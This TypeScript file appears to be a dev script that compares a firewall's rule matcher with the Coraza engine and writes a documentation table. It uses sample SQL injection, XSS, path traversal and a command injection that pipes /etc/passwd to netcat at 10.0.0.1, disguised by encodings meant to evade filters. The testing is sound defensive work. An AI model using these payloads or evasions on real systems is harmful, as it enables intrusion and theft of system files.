import type { RuleDefinition } from "../../shared/rule.ts";
import { compileRule } from "../engine/detect/waf/compile-rule.ts";
import { matchRequest } from "../engine/detect/waf/match-request.ts";
import { parseRawRequest } from "../engine/evidence/raw-request.ts";
import { type Encoding, encode, encodings } from "../engine/learn/training/generated/encode.ts";
import { type ExportedRule, toSecLang } from "../engine/respond/rules/seclang.ts";
import { askCoraza, type SentToCoraza } from "./coraza-check.ts";

/** An attack of each class, and a rule that knows it. */
const attacks = [
  { class: "sql_injection", text: "x' union select card from users--", tokens: ["union", "select", "<word>", "from"] },
  { class: "xss", text: "<script>alert(1)</script>", tokens: ["<", "script", ">", "alert", "("] },
  { class: "command_injection", text: "; cat /etc/passwd | nc 10.0.0.1 80", tokens: [";", "cat", "/", "etc"] },
  { class: "path_traversal", text: "../../../../etc/passwd", tokens: ["../", "../", "../"] },
] as const;

const asSent = "as sent";
const disguises: Readonly<Record<string, (text: string) => string>> = {
  [asSent]: (text) => text,
  ...Object.fromEntries(Object.keys(encodings).map((name) => [name, (text: string) => encode(text, name as Encoding)])),
  "base64 in URL encoding": (text) => encodeURIComponent(encode(text, "base64")),
  "URL encoding, three times": (text) => encodeURIComponent(encodeURIComponent(encodeURIComponent(text))),
  "comments for spaces": (text) => text.replaceAll(" ", "/**/"),
  "upper case": (text) => text.toUpperCase(),
  "doubled quotes of a shell": (text) => text.replaceAll("cat", "c''at"),
};

function requestOf(text: string): SentToCoraza {
  // What may stand in a target as it is, stays: the disguise is the encoding, not this.
  const value = text.replace(/[^\x21-\x7e]|[#&]/g, (sign) => encodeURIComponent(sign.toWellFormed()));
  return { target: `/search?q=${value}` };
}

function doesOursMatch(definition: RuleDefinition, { target }: SentToCoraza): boolean {
  const exchange = parseRawRequest(Buffer.from(`GET ${target} HTTP/1.1\r\nHost: shop.example\r\n\r\n`));
  return matchRequest([compileRule({ id: "r", definition, exclusions: [] })], exchange, { now: 0 }).length > 0;
}

/** The documentation page of where exported rules do not see what ours do, tried on the real engine. */
export function describeSecLangDifferences(): string {
  const rows = Object.entries(disguises).map(([name, disguise]) => {
    const cells = attacks.map((attack) => {
      const definition: RuleDefinition = {
        class: attack.class,
        family: null,
        match: { kind: "fingerprint", tokens: [...attack.tokens] },
        scope: { method: null, path: null, place: "query", parameter: "q" },
        action: "block",
        expires_at: null,
      };
      const rule: ExportedRule = {
        number: 1,
        name: attack.class,
        definition,
        exclusions: [],
        effect: "block",
        capec: [],
        cwe: [],
        attack: [],
      };
      const sent = requestOf(disguise(attack.text));
      const isOurs = doesOursMatch(definition, sent);
      const isTheirs = askCoraza(toSecLang(rule), [sent])[0]!.status === 403;
      if (isOurs === isTheirs) return isOurs ? "both" : "neither";
      return isOurs ? "**ours only**" : "**Coraza only**";
    });
    return `| ${name} | ${cells.join(" | ")} |`;
  });
  return `# Exported rules in Coraza

This page is made by \`node electron/dev/write-seclang-differences.ts\`, by asking the real Coraza engine.

A rule that is exported as SecLang reads a value by the transformations that ModSecurity and Coraza have, which are not quite our readings. For each disguise of an
attack: whether our own matcher and Coraza, with the exported rule, find it. "Neither" is no difference; the disguise leaves nothing of the attack that the rule asks for.

| disguise | SQL injection | cross-site scripting | command injection | path traversal |
|---|---|---|---|---|
${rows.join("\n")}
`;
}
